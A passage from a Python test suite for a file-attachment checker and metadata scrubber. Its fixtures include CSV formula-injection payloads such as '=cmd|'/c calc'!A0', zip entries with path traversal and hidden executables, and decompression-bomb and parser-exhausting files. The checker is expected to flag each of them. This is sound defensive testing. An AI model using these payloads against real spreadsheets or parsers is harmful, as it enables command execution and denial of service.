    "csv formula": (b"a,b\n1,=cmd|'/c calc'!A0\n", "file-active"), "csv formula in quotes": (b'a;b\n1;"=HYPERLINK(""x"")"\n', "file-active"), "csv formula with a sign": (b"a,@SUM(A1)\n", "file-active"), "csv formula with plus": (b"a\n+cmd|' /C calc'!A0\n", "file-active"),
    "zip program": (made.zipped({"a.exe": b"MZ"}), "file-active"), "zip program on a Mac": (made.zipped({"__MACOSX/a.exe": b"MZ"}), "file-active"), "zip in a zip": (made.zipped({"a.zip": made.zipped({"a.csv": "a"})}), "file-active"),
    "zip page": (made.zipped({"a.html": "<script>"}), "file-active"), "zip macro": (made.zipped({"a.docx": word(more={"word/vbaProject.bin": b"x"})}), "file-active"), "zip photograph": (made.zipped({"a.jpg": PLACED}), "file-place"),
    "zip disguise": (made.zipped({"a.pdf": b"MZ"}), "file-contents"), "zip out of it": (made.zipped({"../a.csv": "a"}), "file-contents"), "zip of Windows": (made.zipped({"C:\\a.csv": "a"}), "file-contents"),
}


def _found(name: str, content: bytes, folder: Path) -> list[str]:
    (folder / name).write_bytes(content)
    found = list(files.check(folder / name, f"briefings/general/{name}", OWNERS))
    assert not any("Sam" in str(problem) or "Smith" in str(problem) for problem in found)
    return list(dict.fromkeys(problem.rule.id for problem in found))


@pytest.mark.parametrize("name", RIGHT)
def test_what_is_right_is_left_alone(name: str, tmp_path: Path) -> None:
    assert _found(f"a.{name.split(maxsplit=1)[0]}", RIGHT[name], tmp_path) == []


@pytest.mark.parametrize("name", WRONG)
def test_what_is_wrong_is_found(name: str, tmp_path: Path) -> None:
    content, rule = WRONG[name]
    assert _found(f"a.{name.split(maxsplit=1)[0]}", content, tmp_path) == [rule]


@pytest.mark.parametrize(("name", "content", "rule"), [
    ("a.exe", b"MZ", "file-type"), ("a.html", b"<p>", "file-type"), ("a.txt", b"words", "file-type"), ("a.docm", word(), "file-type"), ("private-fostering", b"words", "file-without-ending"),
    ("a.pdf", b"", "file-empty"), ("a.png", png(made.chunk(b"tEXt", b"Software\0" + bytes(1_000_000))), "file-size"), ("a.csv", b"a,b\n" * 6_000_000, "file-size"), ("a.PDF", pdf(information={"/Author": "Sam Smith"}), "file-author"),
])
def test_names_and_sizes(name: str, content: bytes, rule: str, tmp_path: Path) -> None:
    assert _found(name, content, tmp_path) == [rule]


def test_several_things_are_told_at_once_and_each_once(tmp_path: Path) -> None:
    content = word(_para('<w:ins w:author="Sam"/><w:del w:author="Sam"/>') * 50, {"word/media/image1.jpeg": jpeg(app1(exif(gps=1, x013b=b"Sam Smith"))), "word/vbaProject.bin": b"x"})
    assert _found("a.docx", content, tmp_path) == ["file-author", "file-place", "file-active", "file-changes"]


# Time and memory


def _bomb(parts: dict[str, bytes], level: int = 9) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


HEAVY: dict[str, Callable[[], bytes]] = {
    "docx that unpacks to 90 MB": lambda: word(more={"word/media/image1.png": bytes(90_000_000)}),
    "docx of a million tags": lambda: word("<w:p/>" * 1_500_000),
    "docx nested deep": lambda: word("<w:p>" * 150_000 + "</w:p>" * 150_000),
    "xlsx of many cells": lambda: excel([["1", "2"]] * 60_000),
    "xlsx of far columns": lambda: excel(more={"xl/worksheets/sheet2.xml": "<a>" + '<row><c r="XFD1"><v>1</v></c></row>' * 100_000 + "</a>"}),
    "ods of repeated cells": lambda: open_document("<table:table>" + '<table:table-row><table:table-cell table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell></table:table-row>' * 90_000 + "</table:table>", "ods"),
    "zip of many files": lambda: _bomb({f"{number}.csv": b"" for number in range(9_000)}),
    "svg of many attributes": lambda: svg("<path " + " ".join(f'a{number}="1"' for number in range(80_000)) + "/>"),
    "svg of one long word": lambda: svg(f'<path style="{"a" * 900_000}"/>'),
    "svg of brackets": lambda: svg(f"<style>{'url(#' * 180_000}</style>"),
    "svg of comments": lambda: svg(f"<style>{'/*' * 450_000}</style>"),
    "svg before its type": lambda: b"<!--" * 240_000 + b"<!DOCTYPE svg>",
    "svg nested deep": lambda: svg("<g>" * 100_000 + "</g>" * 100_000),
    "svg of copies": lambda: svg("".join(f'<g id="a{number}"><use href="#a{number + 1}"/></g>' for number in range(20_000))),
    "pdf of streams": lambda: b"%PDF-1.7\n" + b"stream\n" * 140_000 + b"%%EOF",
    "pdf of objects": lambda: b"%PDF-1.7\n" + b"".join(b"%d 0 obj <</A<</S/URI>>>> endobj\n" % number for number in range(25_000)) + b"trailer <</Root 1 0 R>>\n%%EOF",
    "pdf of brackets": lambda: b"%PDF-1.7\n1 0 obj " + b"[" * 900_000 + b"\n%%EOF",
    "pdf that unpacks to 90 MB": lambda: _objects_packed(bytes(90_000_000)),
    "jpg of blocks": lambda: jpeg(*[(0xFE, b"")] * 240_000),
    "png of blocks": lambda: png(*[made.chunk(b"tEXt", b"a\0b")] * 60_000),
    "png that unpacks to 90 MB": lambda: png(made.chunk(b"zTXt", b"Author\0\0" + zlib.compress(bytes(90_000_000)))),
    "gif of blocks": lambda: gif(b"\x21\xfe\1a\0" * 190_000),
    "mp4 of boxes": lambda: mp4(box(b"free") * 120_000),
    "mp4 nested deep": lambda: b"".join(struct.pack(">L4s", 800_000 - 8 * number, b"moov") for number in range(90_000)),
    "mp3 of chapters": lambda: mp3(*[("CHAP", b"c\0" + bytes(16) + id3_frame("TIT2", b"\0a") * 40)] * 1_500),
    "mp3 of frames": lambda: mp3(*[("TXXX", b"\0a\0b")] * 60_000),
    "csv of commas": lambda: b"," * 1_000_000,
    "csv of one cell": lambda: b'"' + b"a" * 1_000_000,
    "csv of signs": lambda: b"+" * 1_000_000,
}


@pytest.mark.parametrize("name", HEAVY)
def test_no_file_keeps_a_check_waiting(name: str, tmp_path: Path) -> None:
    """Ten seconds on a busy machine: two or less on an idle one."""
    path = tmp_path / f"a.{name.split(maxsplit=1)[0]}"
    path.write_bytes(HEAVY[name]())
    begun = time.process_time()
    list(files.check(path, path.name, OWNERS))
    list(text_of_attachment(path))
    assert time.process_time() - begun < 10


def _damaged(content: bytes, chance: random.Random) -> bytes:
    """Return a file after an accident: cut, bytes lost, changed or doubled."""
    raw = bytearray(content)
    for _ in range(chance.randint(1, 6)):
        at = chance.randrange(len(raw)) if raw else 0
        match chance.randrange(5):
            case 0:
                del raw[at:]
            case 1:
                del raw[at: at + chance.randint(1, 30)]
            case 2:
                raw[at: at + 1] = bytes([chance.randrange(256)])
            case 3:
                raw[at:at] = raw[at: at + chance.randint(1, 300)]
            case 4:
                raw[at: at + 4] = chance.choice((b"\xff\xff\xff\xff", bytes(4), b"\x7f\xff\xff\xff", b"\0\0\0\1"))
    return bytes(raw)


def _fuzz(seed: int, rounds: int, folder: Path) -> None:
    chance = random.Random(seed)
    contents = [(name, content) for name, content in (*RIGHT.items(), *((name, content) for name, (content, _) in WRONG.items()))]
    for _ in range(rounds):
        name, content = chance.choice(contents)
        path = folder / f"a.{name.split()[0]}"
        path.write_bytes(_damaged(content, chance))
        begun = time.process_time()
        for problem in files.check(path, path.name, OWNERS):
            assert problem.message and problem.remedy.endswith((".", ")"))
        list(text_of_attachment(path))
        assert time.process_time() - begun < 10


def test_damaged_files_stop_nothing(tmp_path: Path) -> None:
    _fuzz(1, 400, tmp_path)


@pytest.mark.exhaustive
@pytest.mark.parametrize("seed", range(2, 7))
def test_many_damaged_files_stop_nothing(seed: int, tmp_path: Path) -> None:
    _fuzz(seed, 4000, tmp_path)


# What the page to write on takes out of a file before it leaves the device

NAMED = ("file-author", "file-place", "file-details", "file-changes")
LEFT_TO_PEOPLE = {"docx inserted", "docx deleted", "xlsx comments", "pptx authors", "pptx film", "odt changes", "odt comment"}
"""Whether a change is meant, somebody must say; and what other programs keep together is not taken apart."""


@pytest.mark.parametrize("name", [name for name in RIGHT if name.split(maxsplit=1)[0] in CLEANED])
def test_what_is_right_is_right_when_it_has_been_cleaned(name: str, tmp_path: Path) -> None:
    ending = name.split(maxsplit=1)[0]
    assert _found(f"a.{ending}", cleaned(RIGHT[name], ending, OWNERS), tmp_path) == []


@pytest.mark.parametrize("name", [name for name, (_, rule) in WRONG.items() if name.split(maxsplit=1)[0] in CLEANED and rule in NAMED])
def test_names_and_places_are_taken_out_of_documents(name: str, tmp_path: Path) -> None:
    ending, (content, rule) = name.split(maxsplit=1)[0], WRONG[name]
    assert _found(f"a.{ending}", cleaned(content, ending, OWNERS), tmp_path) == ([rule] if name in LEFT_TO_PEOPLE else [])


def test_a_word_file_loses_its_comments_and_keeps_its_words_and_how_they_are_written(tmp_path: Path) -> None:
    body = ('<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>A form</w:t></w:r><w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r></w:p>'
            '<w:p><w14:x xmlns:w14="y" w14:a="1 &gt; 0"/></w:p>')
    content = word(body, {"word/comments.xml": f"<w:comments {W}><w:comment/></w:comments>", "word/_rels/document.xml.rels": made.relationships(("comments", "comments.xml"), ("image", "media/a.png")),
                          "word/media/a.png": png(made.chunk(b"tEXt", b"Author\0Sam Smith"))})
    with zipfile.ZipFile(io.BytesIO(cleaned(content, "docx", OWNERS))) as archive:
        assert "word/comments.xml" not in archive.namelist() and b"comments.xml" not in archive.read("word/_rels/document.xml.rels") and b"media/a.png" in archive.read("word/_rels/document.xml.rels")
        assert archive.read("word/document.xml").decode().split("<w:body>")[1] == '<w:p><w:r><w:t>A form</w:t></w:r><w:r></w:r></w:p><w:p><w14:x xmlns:w14="y" w14:a="1 &gt; 0"/></w:p></w:body></w:document>'
        assert archive.read("word/media/a.png") == png()


def test_a_picture_keeps_how_it_is_turned_and_nothing_else_that_a_camera_wrote() -> None:
    assert cleaned(jpeg(app1(exif(x0112=6, x013b=b"Sam Smith", gps=1))), "jpg", OWNERS) == jpeg(app1(b"MM\0*\0\0\0\x08\0\1\x01\x12\0\3\0\0\0\1\0\6\0\0\0\0\0\0"))


def test_a_pdf_keeps_its_words_its_title_and_its_tags() -> None:
    new = PdfReader(io.BytesIO(cleaned(pdf(information={"/Title": "A poster", "/Author": "Sam Smith"}), "pdf", OWNERS)))
    assert new.metadata and new.metadata.title == "A poster" and new.metadata.author is None and new.pages[0].extract_text() == "A poster" and new.root_object["/MarkInfo"]["/Marked"] == True  # noqa: E712  # pypdf's own kind of true


def test_a_pdf_that_is_signed_is_not_changed() -> None:
    signed = pdf(information={"/Author": "Sam Smith"}).replace(b"%%EOF", b"% /ByteRange [0 1 2 3]\n%%EOF")
    assert cleaned(signed, "pdf", OWNERS) == signed


@pytest.mark.parametrize(("name", "pasted"), [("My Tree (1).PNG", "![What it shows](my-tree-1.png)"), ("Café.pdf", "{file: cafe.pdf, title: Café}"), ("notes.txt", ""), ("Tree.MD", "")])
def test_a_file_that_no_page_names_is_named_as_it_has_to_be_named_and_only_if_it_could_be_published(name: str, pasted: str, example: Path) -> None:
    (example / "briefings/general" / name).write_bytes(b"x")
    said = [problem for problem in problems(example) if "no page names this file" in problem]
    assert len(said) == bool(pasted) and all(pasted in problem for problem in said)
